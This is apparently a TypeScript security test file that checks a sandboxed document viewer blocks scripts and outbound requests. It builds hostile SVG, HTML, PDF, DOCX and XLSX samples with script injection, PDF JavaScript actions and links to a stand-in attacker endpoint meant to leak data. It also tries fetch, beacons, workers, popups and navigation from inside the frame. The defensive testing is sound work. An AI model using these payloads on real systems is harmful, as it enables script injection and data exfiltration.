import type { MiniAppHandle } from '@miniview/testing'
import { expect, test } from 'vitest'
import { docxFile, paragraph, picture, xlsxFile } from '../files/officeFiles.js'
import { openFile, viewerFrame } from '../files/openFile.js'
import { pdfFile } from '../files/pdfFile.js'
import { attackBench, expectUnharmed } from './attackBench.js'

const bench = attackBench()

/** What arrived at the attacker's server. */
function listenForLeaks(): string[] {
  const inbox: string[] = []
  bench.server.set('/leak', (request, response) => {
    inbox.push(request.url ?? '')
    response.end()
  })
  return inbox
}

/** An app whose own policy lets frames go anywhere, as in development. */
const open = () => bench.open({ policyOrigins: 'opened' })

const harm = `parent.parent.__pwned = top.__pwned = globalThis.__pwned = 1`

function attackFiles(leak: string): readonly [name: string, bytes: Buffer, end: string][] {
  const ok = 'openDocument:ok'
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99" onload="${harm}"><script>${harm}</script><image xlink:href="${leak}?svg" width="9" height="9"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${leak}?frame"/></foreignObject></svg>`
  const html = `<!doctype html><script>${harm}</script><img src="${leak}?html" onerror="${harm}">`
  const javaScript = `<< /S /JavaScript /JS (app.launchURL\\("${leak}?js"\\); ${harm}) >>`
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 200 300] /A << /S /URI /URI (${leak}?uri) >> >>`
  const pdf = pdfFile({
    pages: ['1 0 0 rg 0 0 200 300 re f'],
    catalog: `/OpenAction ${javaScript} /AA << /WC ${javaScript} >>`,
    page: `/Annots [${link}] /AA << /O ${javaScript} >>`,
  })
  const docx = docxFile(
    [
      paragraph('&lt;img src=x onerror="parent.parent.__pwned=1"&gt;'),
      '<w:p><w:hyperlink r:id="script"><w:r><w:t>script</w:t></w:r></w:hyperlink></w:p>',
      '<w:p><w:hyperlink r:id="leak"><w:r><w:t>leak</w:t></w:r></w:hyperlink></w:p>',
      picture('outside'),
      picture('drawing'),
      '<w:altChunk r:id="chunk"/>',
    ].join(''),
    [
      ['script', 'hyperlink', `javascript:${harm}`, 'External'],
      ['leak', 'hyperlink', `${leak}?link`, 'External'],
      ['outside', 'image', `${leak}?image`, 'External'],
      ['drawing', 'image', 'media/a.svg'],
      ['chunk', 'aFChunk', 'chunk.html'],
    ],
    { 'word/media/a.svg': svg, 'word/chunk.html': html },
  )
  const cell = `&lt;img src="${leak}?cell" onerror="parent.parent.__pwned=1"&gt;`
  const xlsx = xlsxFile({ '&lt;b onclick=1&gt;': [[cell, `=HYPERLINK("${leak}")`]] })
  return [
    ['a.pdf', pdf, ok],
    ['a.docx', docx, ok],
    ['a.xlsx', xlsx, ok],
    ['a.svg', Buffer.from(svg), ok],
    ['a.xml', Buffer.from(html), ok],
    ['html.pdf', Buffer.from(html), 'openDocument:fail filetype not supported'],
    ['a.html', Buffer.from(html), 'openDocument:fail filetype not supported'],
  ]
}

async function tapEverything(app: MiniAppHandle) {
  const frame = await viewerFrame(app)
  // In the frame itself, because some of it is below the edge of the screen.
  await frame.evaluate(() => {
    for (const node of document.querySelectorAll<HTMLElement>('a, img, .pdf-page, td, p')) {
      node.click()
    }
  })
}

test('document viewer: nothing of a document runs, and nothing leaves', async () => {
  const inbox = listenForLeaks()
  const app = await open()
  for (const [name, bytes, end] of attackFiles(`${bench.evil}/leak`)) {
    expect([name, await openFile(app, name, bytes)]).toEqual([name, end])
    if (end === 'openDocument:ok') await tapEverything(app)
    await expectUnharmed(app)
  }
  expect((await app.context.pages()).length).toBe(1)
  expect(inbox).toEqual([])
})

test('document viewer: even its own code reaches neither the container nor a server', async () => {
  const inbox = listenForLeaks()
  const app = await open()
  await openFile(app, 'a.txt', Buffer.from('a text'))
  const frame = await viewerFrame(app)
  const reached = await frame.evaluate(async (leak) => {
    const attempt = async (act: () => unknown) => {
      try {
        await act()
        return 'reached'
      } catch {
        return 'refused'
      }
    }
    const loaded = (element: HTMLElement) =>
      new Promise((resolve, reject) => {
        element.onload = resolve
        element.onerror = reject
        document.body.append(element)
      })
    const script = document.createElement('script')
    script.textContent = 'globalThis.__inline = true'
    document.body.append(script)
    const worker = new Blob([
      `fetch('${leak}?worker').then(() => postMessage(1), () => postMessage(0))`,
    ])
    return {
      origin,
      inline: '__inline' in globalThis,
      parent: await attempt(() => parent.document),
      container: await attempt(() => parent.parent.document),
      storage: await attempt(() => localStorage),
      fetch: await attempt(() => fetch(`${leak}?fetch`)),
      beacon: await attempt(() => {
        if (!navigator.sendBeacon(`${leak}?beacon`)) throw new Error('refused')
      }),
      image: await attempt(() =>
        loaded(Object.assign(document.createElement('img'), { src: `${leak}?img` })),
      ),
      script: await attempt(() =>
        loaded(Object.assign(document.createElement('script'), { src: `${leak}?script` })),
      ),
      worker: await new Promise((resolve) => {
        new Worker(URL.createObjectURL(worker)).onmessage = ({ data }) => resolve(data)
      }),
      top: await attempt(() => {
        top!.location.href = `${leak}?top`
      }),
      popup: await attempt(() => {
        if (!window.open(`${leak}?popup`)) throw new Error('refused')
      }),
    }
  }, `${bench.evil}/leak`)
  expect(reached).toMatchObject({
    origin: 'null',
    inline: false,
    parent: 'refused',
    container: 'refused',
    storage: 'refused',
    fetch: 'refused',
    image: 'refused',
    script: 'refused',
    worker: 0,
    top: 'refused',
    popup: 'refused',
  })
  // Where its frame goes is what no policy of its own can say: that is up to the frame around it.
  await frame.evaluate((leak) => void (location.href = leak), `${bench.evil}/leak?navigation`)
  // The browser puts a page of its own there.
  await app.waitFor('the refusal', async () =>
    app.container.frames().some((each) => each.url().startsWith('chrome-error:')),
  )
  expect(inbox).toEqual([])
  await expectUnharmed(app)
})
